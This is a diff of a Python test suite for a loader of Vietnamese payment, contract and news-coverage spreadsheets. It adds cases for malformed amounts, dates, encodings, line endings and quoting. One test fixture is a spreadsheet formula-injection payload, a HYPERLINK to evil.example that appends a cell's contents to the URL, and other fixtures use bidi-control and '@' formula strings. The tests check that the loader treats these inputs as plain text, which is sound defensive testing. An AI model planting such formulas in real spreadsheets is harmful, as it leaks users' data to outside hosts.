@@ -435,6 +435,9 @@ MONEY = {
     "2.500.000₫": 2_500_000,
     "2.500.000 VND": 2_500_000,
     "VNĐ 3.000.000": 3_000_000,
+    "1.5 tr": 1_500_000,
+    "1,250,000.00": 1_250_000,
+    "2.000.000 đồng": 2_000_000,
 }
 
 
@@ -448,6 +451,76 @@ def _(inbox):
         [f"PC-{i}", "01/2025/HĐ", "20/02/2025", text, "Thanh toán"] for i, text in enumerate(MONEY)
     ]
     write_csv(inbox / "payments" / "ct.csv", [PAYMENT_HEADER, *rows])
+
+
+def payment(**cells) -> list[object]:
+    return changed(PAYMENT_HEADER, PAYMENT_ROW, **cells)
+
+
+# Amounts with no single whole reading: quarantined with the reason, never guessed.
+for _text, _reason in {
+    "238,000.000": "ambiguous_money",
+    "1.500 triệu": "ambiguous_money",
+    "1e8": "invalid_money",
+    "(114.000.000)": "negative_money",  # payments take no negative amounts
+    "1.250.000,5": "fractional_money",
+}.items():
+
+    @case(f"payment-amount-{_text}", "payments", Quarantined(_reason, "Số tiền", 3, _text, 1))
+    def _(inbox, text=_text):
+        rows = [PAYMENT_HEADER, PAYMENT_ROW, payment(so_chung_tu="PC-002", so_tien=text)]
+        write_csv(inbox / "payments" / "ct.csv", rows)
+
+
+# Payment dates that cannot count towards the year: quarantined with the reason.
+for _text, _reason in {
+    "15/03/2099": "outside_year_window",  # most of the file is 2025
+    "15/03/2023": "outside_year_window",
+    "10/01/1925": "implausible_date",
+    "05/03/25": "invalid_date",  # a two-digit year
+    "29/02/2025": "impossible_date",
+    "31/09/2025": "impossible_date",
+}.items():
+
+    @case(f"payment-dated-{_text}", "payments", Quarantined(_reason, "Ngày chi", 4, _text, 2))
+    def _(inbox, text=_text):
+        rows = [
+            PAYMENT_HEADER,
+            PAYMENT_ROW,
+            payment(so_chung_tu="PC-002", ngay_chi="31/12/2025"),
+            payment(so_chung_tu="PC-003", ngay_chi=text),
+        ]
+        write_csv(inbox / "payments" / "ct.csv", rows)
+
+
+@case(
+    "payments-file-of-last-year-loads",
+    "payments",
+    Loaded(
+        2, check=holding("payments", "paid_on", (dt.date(2024, 3, 1),), (dt.date(2025, 1, 20),))
+    ),
+)
+def _(inbox):
+    rows = [
+        PAYMENT_HEADER,
+        payment(ngay_chi="01/03/2024"),
+        payment(so_chung_tu="PC-002", ngay_chi="20/01/2025"),
+    ]
+    write_csv(inbox / "payments" / "ct-2024.csv", rows)
+
+
+@case(
+    "contract-ending-in-2099",
+    "contracts",
+    Quarantined("outside_year_window", "Ngày kết thúc", 3, "31/12/2099", loaded=1),
+)
+def _(inbox):
+    rows = [
+        CONTRACT_HEADER,
+        CONTRACT_ROW,
+        contract(so_hop_dong="02/2025", ngay_ket_thuc="31/12/2099"),
+    ]
+    write_csv(inbox / "contracts" / "hd.csv", rows)
 
 
 @case(
@@ -675,11 +748,204 @@ def _(inbox):
     (inbox / "coverage" / "tin.jsonl").write_text("tiêu đề,ngày đăng\nmột,hai\n", encoding="utf-8")
 
 
-@case("utf8-bom-with-broken-bytes", "payments", Refused(("payments/ct.csv", "not valid utf-8")))
+@case(
+    "utf8-bom-with-broken-bytes",
+    "payments",
+    Refused(("payments/ct.csv", "not valid utf-8", "line 3, byte offset"), row=3),
+)
 def _(inbox):
     (inbox / "payments").mkdir()
     text = csv_text([PAYMENT_HEADER, PAYMENT_ROW]).encode("utf-8")
     (inbox / "payments" / "ct.csv").write_bytes(b"\xef\xbb\xbf" + text + b"\xff\xfe\xfa")
+
+
+# --- records that do not fit the header ---------------------------------------------------
+
+UNQUOTED_AMOUNT = "PC-002,01/2025/HĐ-STTTT,20/02/2025,Thanh toán,81,550,000"
+
+
+@case(
+    "unquoted-comma-amount-in-last-column",
+    "payments",
+    Quarantined("wrong_field_count", None, 3, UNQUOTED_AMOUNT, loaded=1),
+)
+def _(inbox):
+    header = ["Số chứng từ", "Số hợp đồng", "Ngày chi", "Loại", "Số tiền"]
+    good = "PC-001,01/2025/HĐ-STTTT,20/02/2025,Tạm ứng,15.000.000"
+    (inbox / "payments").mkdir()
+    text = "\r\n".join([",".join(header), good, UNQUOTED_AMOUNT, ""])
+    (inbox / "payments" / "ct.csv").write_text(text, encoding="utf-8")
+
+
+@case(
+    "row-with-fewer-fields",
+    "payments",
+    Quarantined("wrong_field_count", None, 2, "PC-001,01/2025/HĐ-STTTT,20/02/2025,15.000.000"),
+)
+def _(inbox):
+    (inbox / "payments").mkdir()
+    text = ",".join(PAYMENT_HEADER) + "\nPC-001,01/2025/HĐ-STTTT,20/02/2025,15.000.000\n"
+    (inbox / "payments" / "ct.csv").write_text(text, encoding="utf-8")
+
+
+MIXED_ENDINGS = holding(
+    "payments",
+    "_row_number, payment_id",
+    *[(line, f"PC-{line}") for line in (2, 3, 4, 5, 6)],
+)
+
+
+@case("mixed-line-endings-cr-lf-crlf", "payments", Loaded(5, check=MIXED_ENDINGS))
+def _(inbox):
+    rows = [",".join(PAYMENT_HEADER)] + [
+        f"PC-{line},01/2025/HĐ-STTTT,20/02/2025,1.000.000,Thanh toán" for line in range(2, 7)
+    ]
+    endings = ["\r\n", "\r", "\n", "\r", "\r\n", "\n"]
+    text = "".join(row + end for row, end in zip(rows, endings, strict=True))
+    (inbox / "payments").mkdir()
+    (inbox / "payments" / "ct.csv").write_bytes(text.encode("utf-8"))
+
+
+@case("nul-byte-in-a-cell", "payments", Quarantined("nul_byte", "Số chứng từ", 3, "PC\u2400002", 1))
+def _(inbox):
+    (inbox / "payments").mkdir()
+    text = csv_text([PAYMENT_HEADER, PAYMENT_ROW, payment(so_chung_tu="PC\x00002")])
+    (inbox / "payments" / "ct.csv").write_bytes(text.encode("utf-8"))
+
+
+BOM_THEN_1258 = b"\xef\xbb\xbf" + cp1258(csv_text([PAYMENT_HEADER, PAYMENT_ROW]))
+
+
+@case(
+    "utf8-bom-then-windows-1258",
+    "payments",
+    Refused(
+        (
+            "payments/ct.csv",
+            f"not valid utf-8 at line 1, byte offset {BOM_THEN_1258.index(cp1258('ố'))}",
+            "starts with a UTF-8 BOM",
+        ),
+        row=1,
+    ),
+)
+def _(inbox):
+    (inbox / "payments").mkdir()
+    (inbox / "payments" / "ct.csv").write_bytes(BOM_THEN_1258)
+
+
+@case(
+    "duplicated-amount-header",
+    "payments",
+    Refused(
+        ("payments/ct.csv", "row 1", "D ('Số tiền') and F ('Số tiền')", "amount_vnd"),
+        row=1,
+        column="Số tiền",
+    ),
+)
+def _(inbox):
+    rows = [[*PAYMENT_HEADER, "Số tiền"], [*PAYMENT_ROW, "14.000.000"]]
+    write_csv(inbox / "payments" / "ct.csv", rows)
+
+
+@case(
+    "amount-and-total-headers-in-one-sheet",
+    "payments",
+    Refused(
+        ("payments/ct.xlsx", "D ('Số tiền') and F ('Thành tiền')", "sheet 'Chi'"),
+        row=1,
+        column="Thành tiền",
+    ),
+)
+def _(inbox):
+    rows = [[*PAYMENT_HEADER, "Thành tiền"], [*PAYMENT_ROW, "14.000.000"]]
+    write_xlsx(inbox / "payments" / "ct.xlsx", rows, sheet="Chi")
+
+
+BIDI_TITLE = "Hải Phòng \u202etrao giải\u202c báo chí \u2066năm 2025\u2069\u200f"
+BIDI_REMOVED = holding(
+    "coverage", "title, agency", ("Hải Phòng trao giải báo chí năm 2025", "Báo Hải Phòng")
+)
+
+
+@case("bidi-controls-removed-csv", "coverage", Loaded(1, check=BIDI_REMOVED))
+def _(inbox):
+    row = coverage(tieu_de=BIDI_TITLE, co_quan_bao_chi="\u202bBáo Hải Phòng\u200e")
+    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, row])
+
+
+@case("bidi-controls-removed-xlsx", "coverage", Loaded(1, check=BIDI_REMOVED))
+def _(inbox):
+    row = coverage(tieu_de=BIDI_TITLE, co_quan_bao_chi="\u202dBáo Hải Phòng\u202c")
+    write_xlsx(inbox / "coverage" / "tin.xlsx", [COVERAGE_HEADER, row])
+
+
+FORMULA_TEXT = '=HYPERLINK("https://evil.example/?q="&A1,"Bấm vào đây")'
+
+
+@case(
+    "formula-text-stays-text",
+    "coverage",
+    Loaded(1, check=holding("coverage", "title, summary", (FORMULA_TEXT, "@SUM(1+1)"))),
+)
+def _(inbox):
+    row = coverage(tieu_de=FORMULA_TEXT, tom_tat="@SUM(1+1)")
+    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, row])
+
+
+STRAY_QUOTES = holding(
+    "coverage",
+    "_row_number, title",
+    (2, 'Tivi 55" và 65" giá rẻ'),
+    (3, "Dòng một\nDòng hai"),
+    (5, "Hải Phòng đón khách"),
+)
+
+
+@case("stray-quote-inside-an-unquoted-cell", "coverage", Loaded(3, check=STRAY_QUOTES))
+def _(inbox):
+    rest = ",".join(COVERAGE_ROW[3:])
+    text = (
+        ",".join(COVERAGE_HEADER)
+        + f'\nBáo Hải Phòng,15/03/2025,Tivi 55" và 65" giá rẻ,{rest}'
+        + f'\nBáo Hải Phòng,15/03/2025,"Dòng một\nDòng hai",{rest}'
+        + f"\nBáo Hải Phòng,15/03/2025,Hải Phòng đón khách,{rest}\n"
+    )
+    (inbox / "coverage").mkdir()
+    (inbox / "coverage" / "tin.csv").write_text(text, encoding="utf-8")
+
+
+@case(
+    "quotes-inside-an-unquoted-cell-with-a-comma",
+    "coverage",
+    Quarantined(
+        "wrong_field_count",
+        None,
+        3,
+        'Báo Hải Phòng,15/03/2025,Tivi 55", 65" giá rẻ,' + ",".join(COVERAGE_ROW[3:]),
+        loaded=1,
+    ),
+)
+def _(inbox):
+    rest = ",".join(COVERAGE_ROW[3:])
+    text = (
+        ",".join(COVERAGE_HEADER)
+        + f"\nBáo Hải Phòng,15/03/2025,Hải Phòng đón khách,{rest}"
+        + f'\nBáo Hải Phòng,15/03/2025,Tivi 55", 65" giá rẻ,{rest}\n'
+    )
+    (inbox / "coverage").mkdir()
+    (inbox / "coverage" / "tin.csv").write_text(text, encoding="utf-8")
+
+
+@case(
+    "bytes-in-no-known-encoding",
+    "payments",
+    Refused(("payments/ct.csv", "unknown encoding", "line 2, byte offset 46"), row=2),
+)
+def _(inbox):
+    (inbox / "payments").mkdir()
+    header = ",".join(fold(h) for h in PAYMENT_HEADER).encode() + b"\n"
+    assert len(header) == 46
+    (inbox / "payments" / "ct.csv").write_bytes(header + bytes(range(128, 256)) * 20 + b"\n")
 
 
 def test_the_corpus_is_large_and_covers_every_outcome():
@@ -736,3 +1002,14 @@ def test_bad_input_corpus(case: Case, inbox: Path, con):
     assert problem["reason_en"] and problem["reason_vi"] != fold(problem["reason_vi"])
     if expect.reason_code != "invalid_json":
         assert isinstance(json.loads(problem["record_json"]), dict)
+
+
+def test_a_date_outside_the_files_year_window_names_the_window(inbox, con):
+    rows = [PAYMENT_HEADER, PAYMENT_ROW, payment(so_chung_tu="PC-2", ngay_chi="15/03/2099")]
+    write_csv(inbox / "payments" / "ct.csv", rows)
+    load(con, "payments", inbox)
+    (problem,) = quarantined(con, "payments")
+    assert problem["reason_en"].endswith(
+        "most dates of the file are in 2025; accepted 01/01/2024–31/12/2026"
+    )
+    assert problem["reason_vi"].endswith("chỉ nhận từ 01/01/2024 đến 31/12/2026")
